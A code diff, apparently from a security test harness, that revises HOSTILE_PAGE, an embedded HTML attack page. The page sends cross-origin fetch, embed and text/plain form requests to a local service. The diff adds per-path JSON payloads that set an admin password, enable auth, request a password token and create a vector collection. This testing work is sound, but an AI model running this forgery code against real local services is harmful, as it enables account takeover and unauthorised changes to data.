@@ -15,7 +15,14 @@ export type Loot = {
  */
 export const HOSTILE_PAGE = `<!doctype html><title>A page of somebody else</title><body><script>
 const PARALLEL = 12;
-const BODY = '{"password":"Correct-Horse-42","enabled":true,"vectors":{"size":1,"distance":"Dot"},"grant_type":"password"}';
+// What would do harm where it is taken.
+const BODIES = [
+  [/\\/auth\\/admin/, '{"password":"Correct-Horse-42"}'],
+  [/\\/auth\\/enabled/, '{"enabled":true}'],
+  [/\\/auth\\/token$/, '{"grant_type":"password","username":"admin@localhost","password":"Correct-Horse-42"}'],
+  [/\\/collections\\/[^/]+$/, '{"vectors":{"size":1,"distance":"Dot"}}'],
+];
+const bodyOf = (path) => BODIES.find(([pattern]) => pattern.test(path))?.[1] ?? '{}';
 
 async function each(items, work) {
   const left = [...items];
@@ -26,13 +33,14 @@ async function each(items, work) {
 
 function waysOf(service, { method, path }) {
   const url = service + path;
+  const body = bodyOf(path);
   const hasBody = method !== 'GET';
-  const simple = (type) => ({ method: hasBody ? 'POST' : 'GET', ...(hasBody && { body: BODY, headers: { 'content-type': type } }) });
+  const simple = (type) => ({ method: hasBody ? 'POST' : 'GET', ...(hasBody && { body, headers: { 'content-type': type } }) });
   return [
     ['no-cors', url, { ...simple('text/plain'), mode: 'no-cors', credentials: 'include' }],
-    ['no type', url, { ...(hasBody ? { method: 'POST', body: new Blob([BODY]) } : {}), mode: 'no-cors' }],
+    ['no type', url, { ...(hasBody ? { method: 'POST', body: new Blob([body]) } : {}), mode: 'no-cors' }],
     ['simple', url, simple('application/x-www-form-urlencoded')],
-    ['preflighted', url, { method, ...(hasBody && { body: BODY }), headers: { 'content-type': 'application/json', 'api-key': 'x' } }],
+    ['preflighted', url, { method, ...(hasBody && { body }), headers: { 'content-type': 'application/json', 'api-key': 'x' } }],
   ];
 }
 
@@ -42,12 +50,12 @@ async function attack(service, routes) {
   await each(routes.flatMap((route) => waysOf(service, route)), async ([way, url, options]) => {
     requests += 1;
     const response = await fetch(url, options).catch(() => undefined);
-    if (response !== undefined && response.type !== 'opaque') readable.push(way + ' ' + options.method + ' ' + url + ' ' + (await response.text()).slice(0, 80));
+    if (response !== undefined && response.type !== 'opaque') readable.push(way + ' ' + options.method + ' ' + url + ' ' + (await response.text()).slice(0, 200));
   });
   await each(routes, async ({ method, path }) => {
     requests += 1;
     if (method === 'GET') await each(['script', 'img', 'link', 'iframe'], (tag) => embed(tag, service + path, readable));
-    else await submit(service + path);
+    else await submit(service, path);
   });
   return { readable, requests };
 }
@@ -80,13 +88,13 @@ function peek(frame) {
   }
 }
 
-function submit(url) {
+function submit(service, path) {
   return new Promise((resolve) => {
     const frame = document.createElement('iframe');
     frame.name = 'target' + Math.random();
-    const form = Object.assign(document.createElement('form'), { action: url, method: 'POST', enctype: 'text/plain', target: frame.name });
+    const form = Object.assign(document.createElement('form'), { action: service + path, method: 'POST', enctype: 'text/plain', target: frame.name });
     // A form of plain text can write JSON.
-    form.append(Object.assign(document.createElement('input'), { name: BODY.slice(0, -1) + ',"x":"', value: '"}' }));
+    form.append(Object.assign(document.createElement('input'), { name: bodyOf(path).slice(0, -1) + ',"x":"', value: '"}' }));
     document.body.append(frame, form);
     let loads = 0;
     frame.onload = () => {
@@ -117,7 +125,7 @@ async function connect(service, routes) {
 async function read(routes) {
   const answers = [];
   await each(routes, async ({ method, path }) => {
-    const response = await fetch(path, { method, ...(method !== 'GET' && { body: BODY, headers: { 'content-type': 'application/json' } }) });
+    const response = await fetch(path, { method, ...(method !== 'GET' && { body: bodyOf(path), headers: { 'content-type': 'application/json' } }) });
     answers.push({ status: response.status, text: (await response.text()).slice(0, 300) });
   });
   return answers;
